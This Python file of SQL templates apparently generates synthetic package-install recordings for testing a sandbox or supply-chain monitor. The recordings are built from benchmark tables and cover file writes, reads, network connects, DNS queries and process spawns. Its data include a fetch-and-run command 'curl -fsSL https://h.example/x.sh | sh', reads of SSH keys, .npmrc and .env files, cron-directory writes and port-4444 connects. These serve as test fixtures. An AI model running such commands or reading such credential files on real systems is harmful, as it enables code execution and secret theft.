"""The shapes of recordings derived from the driver's tables.

The text runs in Spark and in DuckDB alike; only the two helpers for time differ.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

EVENTS = """
WITH e AS (
  SELECT user_id AS rec, event_id, ts, event_type, value, {epoch_us} AS us, CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k FROM {events}
), r AS (
  SELECT *, CAST(floor(rec / 5.0) AS BIGINT) AS pkg_no, rec % 5 AS ver_no,
    row_number() OVER (PARTITION BY rec ORDER BY us, event_id) AS seq,
    (us - min(us) OVER (PARTITION BY rec)) * 1000 AS ts_ns,
    CASE WHEN event_type IN ('view','error') THEN 'fs_write' WHEN event_type = 'click' THEN 'net_connect' WHEN event_type = 'signup' THEN 'dns_query'
         WHEN k % 3 = 0 THEN 'fs_read' ELSE 'proc_spawn' END AS op
  FROM e
)
SELECT rec AS recording_id, CAST(seq AS BIGINT) AS seq, ts_ns, 4000 + k % 7 AS pid, op,
  'pkg-' || CAST(pkg_no AS STRING) AS package, '1.' || CAST(ver_no * 4 + 2 AS STRING) || '.0' AS version, rec AS append_pos,
  '0.4.' || CASE WHEN ver_no = 4 THEN '1' ELSE '0' END AS agent_version,
  CASE WHEN pkg_no % 7 = 6 OR rec % 29 = 28 THEN 'aya' ELSE 'strace' END AS backend,
  '/work/' || CAST(rec AS STRING) || '/project' AS zone_project, '/home/u' || CAST(rec AS STRING) || '/.npm' AS zone_cache,
  '/home/u' || CAST(rec AS STRING) AS zone_home, '/tmp' AS zone_tmp, '/opt/out' AS zone_extra,
  CASE WHEN event_type = 'error' AND k % 2 = 0 THEN false WHEN op = 'fs_read' AND k % 5 = 0 THEN false WHEN k % 17 = 16 THEN NULL ELSE true END AS ok,
  CASE WHEN event_type = 'error' AND k % 2 = 0 OR op = 'fs_read' AND k % 5 = 0 THEN CASE k % 4 WHEN 0 THEN 'EACCES' WHEN 1 THEN 'ENOENT' END END AS error,
  CASE WHEN op = 'fs_write' THEN
         CASE k % 10 WHEN 0 THEN '/etc/cron.d/job' || CAST(k AS STRING) WHEN 1 THEN '/usr/local/bin/tool' || CAST(k AS STRING)
           WHEN 2 THEN '/proc/self/attr' || CAST(k AS STRING) WHEN 3 THEN 'project/file' || CAST(k AS STRING)
           WHEN 4 THEN '/home/u' || CAST(rec AS STRING) || '/.npm/f' || CAST(k AS STRING) WHEN 5 THEN '/tmp/t' || CAST(k AS STRING)
           WHEN 6 THEN CASE WHEN k % 4 <> 2 THEN '/opt/out/o' || CAST(k AS STRING) WHEN k = 86 THEN '/opt/ou' ELSE '/opt/out' END
           WHEN 8 THEN CASE WHEN k % 4 = 2 THEN 'node_modules' ELSE '/opt/out/node_modules/m' || CAST(k AS STRING) || '/index.js' END
           ELSE '/work/' || CAST(rec AS STRING) || '/project/node_modules/m' || CAST(k AS STRING) || '/index.js' END
       WHEN op = 'fs_read' THEN
         CASE k % 4 WHEN 0 THEN '/home/u' || CAST(rec AS STRING) || '/.ssh/id_rsa' WHEN 1 THEN '/home/u' || CAST(rec AS STRING) || '/.npmrc'
           WHEN 2 THEN '/work/' || CAST(rec AS STRING) || '/project/.env.local' ELSE '/work/' || CAST(rec AS STRING) || '/project/README' END END AS path,
  CASE WHEN op IN ('fs_write','fs_read') THEN CASE WHEN op = 'fs_write' AND k % 10 = 3 THEN 'unresolved' ELSE 'kernel' END END AS origin,
  CASE WHEN op = 'fs_write' THEN CASE WHEN k % 10 = 1 THEN 'chmod' WHEN k % 4 = 0 THEN 'open' WHEN k % 4 = 1 THEN 'write' WHEN k % 4 = 2 THEN 'mkdir' ELSE 'delete' END END AS kind,
  CASE WHEN op = 'fs_write' AND k % 10 = 1 THEN CASE WHEN k % 20 = 1 THEN '0755' ELSE '0644' END END AS mode,
  CASE WHEN op = 'fs_write' AND k % 10 <> 1 AND k % 4 = 1 THEN CAST(floor(value * 100) AS BIGINT) END AS bytes,
  CASE WHEN op = 'net_connect' THEN CASE k % 10 WHEN 0 THEN '127.0.0.1' WHEN 1 THEN '10.0.0.7' WHEN 9 THEN NULL ELSE '203.0.113.' || CAST(k AS STRING) END END AS ip,
  CASE WHEN op = 'net_connect' AND k % 10 = 9 THEN '/run/s' || CAST(k AS STRING) || '.sock' END AS unix_path,
  op = 'net_connect' AND k % 10 IN (0, 9) AS loopback, op = 'net_connect' AND (k % 10 IN (1, 9) OR k = 42) AS private,
  CASE WHEN op = 'net_connect' AND k % 10 <> 9 THEN CASE k % 5 WHEN 0 THEN 443 WHEN 1 THEN 80 WHEN 2 THEN 0 WHEN 3 THEN 8443 ELSE 4444 END END AS port,
  CASE WHEN op = 'dns_query' THEN CASE k % 6 WHEN 0 THEN 'registry.npmjs.org' WHEN 1 THEN 'Metrics.Vendor' || CAST(k AS STRING) || '.example' WHEN 2 THEN 'github.com'
       WHEN 3 THEN 'localhost' WHEN 4 THEN 'objects.githubusercontent.com' ELSE 'a.npmjs.org.' END END AS qname,
  CASE WHEN op = 'proc_spawn' THEN CASE k % 5 WHEN 0 THEN '/usr/bin/node' WHEN 1 THEN '/usr/bin/curl' WHEN 2 THEN '/bin/sh' WHEN 3 THEN '/opt/weird/tool' || CAST(k AS STRING) ELSE '/usr/bin/make' END END AS bin,
  CASE WHEN op = 'proc_spawn' AND k % 5 = 2 THEN 'curl -fsSL https://h.example/x.sh | sh' END AS script,
  op = 'proc_spawn' AND k % 11 = 0 AS argv_truncated, rec % 13 <> 12 AS complete, rec % 26 <> 25 AS has_end
FROM r
"""

LOCK = """
SELECT l_suppkey AS repo, CASE WHEN l_linestatus = 'F' THEN 'before' ELSE 'after' END AS side,
  'p' || CAST(l_partkey % 40 AS STRING) AS name, CAST(l_linenumber AS STRING) AS version,
  CASE WHEN CAST(l_quantity AS INT) % 10 = 0 THEN NULL ELSE CAST(CAST(l_quantity AS INT) AS STRING) END AS integrity,
  CASE WHEN l_tax >= 0.08 THEN 'git' WHEN l_discount >= 0.10 THEN 'directory' WHEN l_tax >= 0.01 AND l_tax < 0.02 THEN 'unknown' ELSE 'remote' END AS source_kind,
  l_returnflag = 'R' AS dev, false AS optional,
  'p' || CAST(l_partkey % 40 AS STRING) || '/' || CAST(l_orderkey AS STRING) || '/' || CAST(l_linenumber AS STRING) || '/' || CAST(CAST(l_quantity AS INT) AS STRING)
    || '/' || CAST(CAST(round(l_tax * 100) AS INT) AS STRING) || '/' || CAST(CAST(round(l_discount * 100) AS INT) AS STRING) || '/' || l_returnflag AS key
FROM {lineitem}
"""

RUNS = """
SELECT 'c' || CAST(o_custkey % 50 AS STRING) AS package, CAST(o_orderkey % 5 AS STRING) AS version, CAST(CAST(o_orderdate AS DATE) AS STRING) AS started_at,
  o_orderstatus = 'F' AS complete, o_orderstatus <> 'P' AS recorded, o_orderkey % 1000 AS events,
  o_orderstatus = 'F' AND o_orderkey % 20 <> 0 AS pushed, o_orderkey % 31 <> 0 AS matches_requested, o_orderkey AS path
FROM {orders}
"""

PUBLISHED = """
SELECT package, version, max(published_at) AS published_at, max(CASE WHEN orderkey % 11 = 0 THEN 1 ELSE 0 END) = 1 AS unpublished FROM (
  SELECT 'c' || CAST(o_custkey % 50 AS STRING) AS package, '1.' || CAST(o_orderkey % 40 AS STRING) || CASE WHEN o_orderkey % 7 = 0 THEN '-rc' ELSE '' END AS version,
    CAST(CAST(o_orderdate AS DATE) AS STRING) AS published_at, o_orderkey AS orderkey FROM {orders}) AS o
GROUP BY package, version
"""

INDEX = """
SELECT o_orderkey AS append_pos, 'c' || CAST(o_custkey % 50 AS STRING) AS package, CAST(o_orderkey % 5 AS STRING) AS version,
  sha256_of AS digest, CAST(CAST(o_orderdate AS DATE) AS STRING) AS recorded_at, o_orderkey % 1000 AS events
FROM (SELECT *, {sha256} AS sha256_of FROM {orders}) AS o
"""

FD = """
SELECT user_id AS recording_id, CAST(4000 + k % 4 AS BIGINT) AS pid, CAST(k % 3 AS BIGINT) AS fd, CAST(row_number() OVER (PARTITION BY user_id ORDER BY us, event_id) AS BIGINT) AS seq, us,
  CASE event_type WHEN 'signup' THEN 'open' WHEN 'view' THEN 'write' WHEN 'error' THEN 'close' ELSE 'other' END AS act,
  CASE WHEN event_type = 'signup' THEN 'f' || CAST(k % 5 AS STRING) END AS path, CAST(floor(value * 100) AS BIGINT) AS bytes, event_id
FROM (SELECT *, {epoch_us} AS us, CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k FROM {events}) AS e
"""

SPARK = {"epoch_us": "unix_micros(CAST(ts AS TIMESTAMP))", "sha256": "sha2(CAST(CAST(o_orderkey % 500 AS STRING) AS BINARY), 256)"}
DUCKDB = {"epoch_us": "epoch_us(ts)", "sha256": "sha256(CAST(o_orderkey % 500 AS VARCHAR))"}
TABLES = ("events", "lineitem", "orders")


def text(template: str, helpers: dict[str, str], tables: dict[str, str]) -> str:
    for k, v in {**helpers, **tables}.items():
        template = template.replace("{" + k + "}", v)
    return template


def duckdb(template: str) -> str:
    return text(template, DUCKDB, {t: t for t in TABLES})


def _read(template: str, table: str):
    def read(spark: SparkSession, sf_dir: str) -> DataFrame:
        sql = text(template, SPARK, {table: "{source}"})
        return spark.sql(sql, source=spark.read.parquet(f"{sf_dir}/{table}.parquet"))

    return read


bridge_events = _read(EVENTS, "events")
lock_packages = _read(LOCK, "lineitem")
run_results = _read(RUNS, "orders")
published = _read(PUBLISHED, "orders")
snapshot_index = _read(INDEX, "orders")
fd_activity = _read(FD, "events")


def events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Bridge events with the nested columns of recordings: ``extra`` zones and ``argv`` arrays."""
    from pyspark.sql import functions as F

    argv = F.when(F.col("script").isNotNull(), F.array(F.lit("sh"), F.lit("-c"), F.col("script"))).when(F.col("bin").isNotNull(), F.array("bin")).otherwise(F.array().cast("array<string>"))
    return bridge_events(spark, sf_dir).withColumn("extra", F.array("zone_extra")).withColumn("argv", argv)


def recorder_sides(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Bridge events of all recordings as two recorders' views: recordings 2k and 2k + 1 are sides 1 and 2 of pair k."""
    from pyspark.sql import functions as F

    rec = F.col("recording_id")
    return events(spark, sf_dir).withColumns({"pair_id": F.floor(rec / 2), "side": (rec % 2 + 1).cast("int")})
